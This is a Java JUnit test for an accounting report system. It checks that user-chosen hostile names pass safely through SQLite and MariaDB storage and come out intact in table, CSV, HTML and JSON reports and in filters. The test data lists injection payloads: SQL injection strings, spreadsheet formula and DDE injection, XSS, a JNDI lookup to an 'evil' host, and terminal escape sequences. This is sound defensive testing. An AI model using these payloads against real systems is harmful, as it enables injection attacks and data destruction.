package org.sobre.accounting.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sobre.accounting.factors.Factors;
import org.sobre.accounting.ingest.IngestProgress;
import org.sobre.accounting.ingest.IngestResult;
import org.sobre.accounting.ingest.LedgerIngest;
import org.sobre.accounting.labs.LabMap;
import org.sobre.accounting.report.JobLedger.Who;
import org.sobre.accounting.report.JobLedger.Work;
import org.sobre.accounting.report.html.HtmlReport;
import org.sobre.accounting.store.AccountingStore;
import org.sobre.accounting.store.MariaDbServer;
import org.sobre.accounting.store.Period;
import org.sobre.accounting.year.LongAfter;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;

/**
 * Names that users chose to do harm, from ledger lines through both databases to every format and
 * every filter: they are names at the end as at the begin.
 */
final class HostileNamesTest {

  private static final List<String> NAMES =
      List.of(
          "'; DROP TABLE run; --",
          "\" OR \"\"=\"",
          "\\'; DELETE FROM name; #",
          "x' UNION SELECT text FROM name --",
          "%_\\%",
          "=HYPERLINK(\"http://evil\",\"click\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(A1:A9)",
          "\t=1+1",
          "\r=1+1",
          "'=1",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "</title><svg onload=alert(1)>",
          "${jndi:ldap://evil}",
          "{0} '{' %s",
          "\u001b[2J\u001b]0;owned\u0007",
          "a,b;c\"d",
          "line\nbreak",
          "\u202Egnp.exe",
          "na\u00efve \ud83d\ude00");

  @TempDir Path root;
  private JobLedger ledger;

  @BeforeEach
  void write() throws IOException {
    ledger = new JobLedger(root.resolve("ledger"), "c' OR 1=1 --", "n1");
    for (String name : NAMES) {
      ledger.add(
          new Who(name, "u" + name, "g" + name, "p" + name, "i" + name),
          new Work(3600, 1000, 7, -1, -1));
    }
  }

  @Test
  void areHarmlessOnSqlite() throws Exception {
    try (AccountingStore store =
        AccountingStore.open("jdbc:sqlite:" + root.resolve("accounting.db"))) {
      check(store);
    }
  }

  @Test
  void areHarmlessOnMariaDb() throws Exception {
    boolean isRequired = System.getProperty("sobre.require", "").contains("mariadb");
    assumeTrue(isRequired || MariaDbServer.isInstalled(), "MariaDB is not installed");
    try (MariaDbServer server = MariaDbServer.start(Files.createDirectory(root.resolve("m")))) {
      server.create("accounting");
      try (AccountingStore store = server.open("accounting")) {
        check(store);
      }
    }
  }

  private void check(AccountingStore store) throws Exception {
    IngestResult result =
        new LedgerIngest(ledger.directory, store, IngestProgress.NONE, LongAfter.CLOCK).run();
    assertThat(result.quarantined()).isEmpty();
    assertThat(result.newLines()).isEqualTo(NAMES.size() + 1L);
    everyFormat(store);
    everyFilter(store);
    assertThat(report(store, ReportFilter.NONE, ReportKey.LAB).totals().jobs())
        .as("nothing was dropped on the way")
        .isEqualTo(NAMES.size());
  }

  private static Report report(AccountingStore store, ReportFilter filter, ReportKey... by)
      throws IOException {
    return ReportBuilder.build(
        store,
        new ReportRequest(
            List.of(by), Period.ALL, ZoneOffset.UTC, LabMap.BY_ACCOUNT, filter, List.of()),
        Factors.NONE);
  }

  private static void everyFormat(AccountingStore store) throws Exception {
    Report report = report(store, ReportFilter.NONE, ReportKey.ACCOUNT);
    assertThat(report.rows())
        .extracting(row -> row.keys().getOrDefault(ReportKey.ACCOUNT, ""))
        .containsExactlyInAnyOrderElementsOf(NAMES);
    checkTable(TableReport.of(report));
    checkCsv(CsvReport.of(report));
    checkHtml(HtmlReport.of(report));
    String json = JsonReport.of(report);
    assertThat(json).doesNotContain("\u001b", "\u0007").contains("\\u001B[2J");
  }

  /** A terminal is told nothing but lines. */
  private static void checkTable(String table) {
    String lines = table.replace(System.lineSeparator(), "");
    assertThat(lines.codePoints().filter(Character::isISOControl)).isEmpty();
    assertThat(lines).doesNotContain("\u202e");
    // title, header, rules, totals: a name made no line
    assertThat(table.lines().filter(line -> line.contains(" 1.00 ") || line.endsWith(" 1.00")))
        .hasSizeGreaterThanOrEqualTo(NAMES.size());
  }

  private static void checkCsv(String csv) throws IOException {
    List<CSVRecord> records;
    try (StringReader in = new StringReader(csv)) {
      records =
          CSVFormat.RFC4180
              .builder()
              .setHeader()
              .setSkipHeaderRecord(true)
              .get()
              .parse(in)
              .getRecords();
    }
    List<String> names = new ArrayList<>();
    for (CSVRecord record : records) {
      for (String cell : record) {
        boolean isNumber = cell.matches("[0-9.]*");
        assertThat(isNumber || "=+-@\t\r\n".indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
      }
      String cell = record.get("account");
      names.add(cell.startsWith("'") ? cell.substring(1) : cell);
      assertThat(record.get("energyKWh")).isEqualTo("0.000277778");
    }
    assertThat(names).containsExactlyInAnyOrderElementsOf(NAMES);
  }

  private static void checkHtml(String html) throws Exception {
    Document page =
        DocumentBuilderFactory.newInstance()
            .newDocumentBuilder()
            .parse(new ByteArrayInputStream(html.getBytes(StandardCharsets.UTF_8)));
    Set<String> elements = new TreeSet<>();
    NodeList all = page.getElementsByTagName("*");
    for (int i = 0; i < all.getLength(); i++) {
      Element element = (Element) all.item(i);
      elements.add(element.getTagName());
      assertThat(element.hasAttribute("onerror") || element.hasAttribute("onload")).isFalse();
    }
    assertThat(elements).doesNotContain("script", "img", "b");
    assertThat(page.getDocumentElement().getTextContent()).contains("<script>alert(1)</script>");
  }

  /** A name gives its own job, whatever it says to SQL. */
  private void everyFilter(AccountingStore store) throws IOException {
    for (String name : NAMES) {
      Map<ReportKey, String> asked =
          Map.of(
              ReportKey.LAB, name,
              ReportKey.ACCOUNT, name,
              ReportKey.USER, "u" + name,
              ReportKey.GPU, "g" + name,
              ReportKey.PROFILE, "p" + name);
      for (Map.Entry<ReportKey, String> one : asked.entrySet()) {
        ReportFilter filter = new ReportFilter(Map.of(one.getKey(), Set.of(one.getValue())));
        Report found = report(store, filter, ReportKey.USER);
        assertThat(found.rows())
            .extracting(row -> row.keys().getOrDefault(ReportKey.USER, ""))
            .containsExactly("u" + name);
        assertThat(UnknownName.first(store, found)).isEmpty();
        assertThat(TableReport.of(found)).doesNotContain("\u001b");
        assertThat(HtmlReport.of(found)).doesNotContain("<script", "<img", "<svg onload");
      }
    }
    ReportFilter ofNode =
        new ReportFilter(
            Map.of(
                ReportKey.NODE, Set.of(ledger.node()),
                ReportKey.CLUSTER, Set.of("c' OR 1=1 --")));
    assertThat(report(store, ofNode, ReportKey.NODE).totals().jobs()).isEqualTo(NAMES.size());
    ReportFilter nobody = new ReportFilter(Map.of(ReportKey.USER, Set.of("x' OR '1'='1")));
    assertThat(report(store, nobody, ReportKey.USER).rows()).isEmpty();
  }
}
